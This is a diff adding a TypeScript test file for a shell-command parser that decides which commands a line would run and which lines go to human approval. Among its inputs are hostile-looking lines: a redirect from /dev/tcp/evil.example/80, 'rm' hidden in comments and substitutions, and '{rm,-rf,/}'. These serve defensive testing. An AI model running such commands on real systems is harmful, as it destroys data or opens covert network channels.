@@ -1,0 +1,238 @@
+/** What a shell would run is found, or the line is left to people. */
+import fc from 'fast-check';
+import { expect, test } from 'vitest';
+import { holds, patience } from '../../../../test/property/runs.ts';
+import { parseCommand } from '../../src/approval/parse-command.ts';
+
+/** Each command as its words; `…` for a word the shell fills in, `=` for assignments, `>` for redirections. */
+function found(line: string): readonly string[] | string {
+  const parsed = parseCommand(line);
+  if ('unparsed' in parsed) return `unparsed: ${parsed.unparsed}`;
+  return parsed.commands.map(({ words, assigns, redirects }) =>
+    [
+      ...(assigns ? ['='] : []),
+      ...words.map(({ text, fixed }) => (fixed ? text : `${text}…`)),
+      ...(redirects ? ['>'] : []),
+    ].join(' '),
+  );
+}
+
+const read: readonly (readonly [string, readonly string[]])[] = [
+  ['git status', ['git status']],
+  ['  git\tstatus  ', ['git status']],
+  ['git status;', ['git status']],
+  ['a; b', ['a', 'b']],
+  ['a && b || c', ['a', 'b', 'c']],
+  ['a&&b||c', ['a', 'b', 'c']],
+  ['a | b |& c', ['a', 'b', 'c']],
+  ['a & b', ['a', 'b']],
+  ['a &', ['a']],
+  ['a\nb\n\nc', ['a', 'b', 'c']],
+  ['a &&\n b', ['a', 'b']],
+  ['a # b; rm x', ['a']],
+  ['a # b\nrm x', ['a', 'rm x']],
+  ['a#b', ['a#b']],
+  ['# nothing', []],
+  ['', []],
+  ['a $(b c) d', ['b c', 'a … d']],
+  ['a "$(b c)" d', ['b c', 'a … d']],
+  ['a "$(b "$(c)")"', ['c', 'b …', 'a …']],
+  ['a `b c` d', ['b c', 'a … d']],
+  ['a "`b`"', ['b', 'a …']],
+  ["a '$(b)' '`c`'", ['a $(b) `c`']],
+  ['a <(b) >(c)', ['b', 'c', 'a … …']],
+  ['(a; b)', ['a', 'b']],
+  ['(a) && { b; }', ['a', 'b']],
+  ['{ a; b; } | c', ['a', 'b', 'c']],
+  ['! a', ['a']],
+  ['a {} +', ['a {} +']],
+  ['a }', ['a }']],
+  ['a "b c" \'d e\' f\\ g', ['a b c d e f g']],
+  ['a "b\\"c" "d\\$e"', ['a b"c d$e']],
+  ['a\\\nb', ['ab']],
+  ['a \\\n  b', ['a b']],
+  ['"git" st\'at\'us', ['git status']],
+  ['\\rm x', ['rm x']],
+  [`a $X \${Y} $1 $? $@`, ['a … … … … …']],
+  ['a b$X', ['a b…']],
+  ['a $ b', ['a $ b']],
+  ['a *.ts ?x [ab]', ['a *.ts… ?x… [ab]…']],
+  ['a {b,c}', ['a {b,c}…']],
+  ['a ~/x', ['a ~/x…']],
+  ['[ -f x ]', ['[ -f x ]']],
+  ['PATH=/tmp git status', ['= git status']],
+  ['A=1 B=2', ['=']],
+  ['a[1]=x git', ['= git']],
+  ['a+=x git', ['= git']],
+  ['A=$(rm x) git', ['rm x', '= git']],
+  ['a B=c', ['a B=c']],
+  ['a > f', ['a >']],
+  ['a >f b', ['a b >']],
+  ['a >> f', ['a >']],
+  ['a >| f', ['a >']],
+  ['a <> f', ['a >']],
+  ['a &> f', ['a >']],
+  ['a &>> f', ['a >']],
+  ['a >& f', ['a >']],
+  ['a 2> f', ['a >']],
+  ['> f', ['>']],
+  ['a > "$X"', ['a >']],
+  ['a > $(b)', ['b', 'a >']],
+  ['(a) > f', ['a', '>']],
+  ['{ a; } > f', ['a', '>']],
+  ['a 2>&1', ['a']],
+  ['a > /dev/null 2>&1', ['a']],
+  ['a >&2', ['a']],
+  ['a <&-', ['a']],
+  ['a < f', ['a']],
+  ['a < /dev/null', ['a']],
+  ['a < /dev/tcp/evil.example/80', ['a >']],
+  ['a < $X', ['a >']],
+  ['a <<< "$(b)"', ['b', 'a']],
+  ['echo a >/dev/null/../x', ['echo a >']],
+];
+
+test.each(read)('REQ-915-030 %j', (line, commands) => {
+  expect(found(line)).toEqual(commands);
+});
+
+const left: readonly (readonly [string, string])[] = [
+  ['a "b', 'a quote is not closed'],
+  ["a 'b", 'a quote is not closed'],
+  ['a `b', 'a backtick is not closed'],
+  ['a `b \\`c\\``', 'a backslash stands between backticks'],
+  ['a $(b', 'a bracket is not closed'],
+  ['(a', 'a bracket is not closed'],
+  ['{ a; ', 'a bracket is not closed'],
+  ['{ a }', 'a bracket is not closed'],
+  ['a)', 'something stands where none can'],
+  ['(a) b', 'something stands where none can'],
+  [') a', 'an operator stands where a command should'],
+  ['; a', 'an operator stands where a command should'],
+  ['a ; ; b', 'an operator stands where a command should'],
+  ['a & ; b', 'an operator stands where a command should'],
+  ['a | & b', 'an operator stands where a command should'],
+  ['a &\\\n& b', 'an operator stands where a command should'],
+  ['a &&', 'it ends with an operator'],
+  ['a |', 'it ends with an operator'],
+  ['(a &&)', 'it ends with an operator'],
+  ['a \\', 'it ends with a backslash'],
+  ['a <<EOF\nrm\nEOF', 'it has a here-document'],
+  ['a <<-EOF', 'it has a here-document'],
+  ["cat <\\\n<EOF\n'\nEOF\nrm x\n'", 'a redirection leads nowhere'],
+  ['a >', 'a redirection leads nowhere'],
+  ['a > ; b', 'a redirection leads nowhere'],
+  ['a > # f', 'a redirection leads nowhere'],
+  ['a $((1+1))', 'it has arithmetic'],
+  ['((a=1))', 'it has arithmetic'],
+  ['a $[1+1]', 'it has an unusual expansion'],
+  [`a \${X:-$(b)}`, 'it has an unusual expansion'],
+  [`a \${X@P}`, 'it has an unusual expansion'],
+  ['a "$\\\n(b)"', 'it has an unusual expansion'],
+  ["a $'\\x41'", 'it has unusual quotes'],
+  ['a $"b"', 'it has unusual quotes'],
+  ['$X a', 'what it runs depends on an expansion'],
+  ['"$X" a', 'what it runs depends on an expansion'],
+  ['$(echo rm) a', 'what it runs depends on an expansion'],
+  ['`echo rm` a', 'what it runs depends on an expansion'],
+  ['r$X a', 'what it runs depends on an expansion'],
+  ['{rm,-rf,/}', 'what it runs depends on an expansion'],
+  ['/bin/r? x', 'what it runs depends on an expansion'],
+  ['~/x', 'what it runs depends on an expansion'],
+  ['if a; then b; fi', 'it has `if`'],
+  ['for f in *; do rm "$f"; done', 'it has `for`'],
+  ['while a; do b; done', 'it has `while`'],
+  ['until a; do b; done', 'it has `until`'],
+  ['select x in a; do b; done', 'it has `select`'],
+  ['case x in a) b;; esac', 'it has `case`'],
+  ['a ;; b', 'it has a `case`'],
+  ['f() { rm x; }', 'a bracket stands inside a word'],
+  ['function f { rm x; }', 'it has `function`'],
+  ['a=(b c)', 'a bracket stands inside a word'],
+  ['a @(b|c)', 'a bracket stands inside a word'],
+  ['[[ -f x ]]', 'what it runs depends on an expansion'],
+  ['time a', 'it has `time`'],
+  ['coproc a', 'it has `coproc`'],
+  ['! ! a', 'it has `!`'],
+  ['PA\\\nTH=/tmp git', 'what it runs looks like an assignment'],
+  ['i\\\nf a', 'it has `if`'],
+  ['a \\\n#b', 'it has a doubtful comment'],
+  ['a\0b', 'it has control characters'],
+  ['a\rb', 'it has control characters'],
+  ['a\u001b[2Kb', 'it has control characters'],
+  ['a\u00a0b', 'it has an unusual space'],
+  ['a\u2028b', 'it has an unusual space'],
+  [`${'('.repeat(40)}a${')'.repeat(40)}`, 'it has arithmetic'],
+  ['$( '.repeat(9_000), 'it is very long'],
+  [`a ${'$(a '.repeat(40)}${')'.repeat(40)}`, 'it is nested very deeply'],
+  ['a'.repeat(20_001), 'it is very long'],
+];
+
+test.each(left)('REQ-915-030 %j is left to people', (line, why) => {
+  expect(found(line)).toBe(`unparsed: ${why}`);
+});
+
+test(
+  'any text is read or refused, never an error',
+  () => {
+    const shellish = fc
+      .array(
+        fc.constantFrom(...' \t\n;&|<>(){}$`"\'\\#!=*?[]~', 'a', 'if', '&&', '$(', '<<', `\${`, 'x=', '2>', 'é', '\0'),
+      )
+      .map((pieces) => pieces.join(''));
+    holds(fc.oneof(shellish, fc.string({ unit: 'binary', maxLength: 60 })), 2_000, (line) => {
+      const parsed = parseCommand(line);
+      expect('unparsed' in parsed || parsed.commands.every(({ words }) => Array.isArray(words))).toBe(true);
+    });
+  },
+  patience,
+);
+
+/** A line made of numbered commands, and how many there are. */
+const composed = fc.letrec<{ readonly line: (at: number) => readonly [string, number] }>((tie) => {
+  type Make = (at: number) => readonly [string, number];
+  const simple: fc.Arbitrary<Make> = fc
+    .array(fc.constantFrom('x', '"y z"', "'; rm'", '\\;', '$V', '*.ts', '2>&1', '>/dev/null', '"a\'b"'), {
+      maxLength: 3,
+    })
+    .map((words) => (at) => [[`cmd${at}`, ...words].join(' '), at + 1]);
+  const joined: fc.Arbitrary<Make> = fc
+    .tuple(tie('line'), fc.constantFrom(';', '&&', '||', '|', '|&', ' & ', '\n', ' &&\n', ' ;# note\n'), tie('line'))
+    .map(([left, operator, right]) => (at) => {
+      const [first, middle] = left(at);
+      const [second, end] = right(middle);
+      return [`${first}${operator === ';' ? ' ;' : operator}${second}`, end];
+    });
+  const wrapped: fc.Arbitrary<Make> = fc
+    .tuple(
+      tie('line'),
+      fc.constantFrom<readonly [string, string]>(
+        ['( ', ')'],
+        ['{ ', '; }'],
+        ['say $( ', ')'],
+        ['say "in $( ', ') out"'],
+        ['say <(', ')'],
+        ['say >(', ')'],
+        ['( ', ') 2>&1'],
+      ),
+    )
+    .map(([inner, [before, after]]) => (at) => {
+      const [text, end] = inner(at);
+      // What follows must not be swallowed by a note, nor stand after an operator.
+      return [`${before}${text}\n${after.replace(/^;/, '')}`, end];
+    });
+  return { line: fc.oneof({ maxDepth: 4 }, simple, joined, wrapped) };
+}).line;
+
+test(
+  'REQ-915-030 every simple command of a line is found',
+  () => {
+    holds(composed, 500, (make) => {
+      const [line, count] = make(0);
+      const names = [found(line)].flat().map((command) => command.split(' ')[0]);
+      const wanted = Array.from({ length: count }, (_, at) => `cmd${at}`);
+      expect(names.filter((name) => name !== 'say').sort()).toEqual(wanted.sort());
+    });
+  },
+  patience,
+);
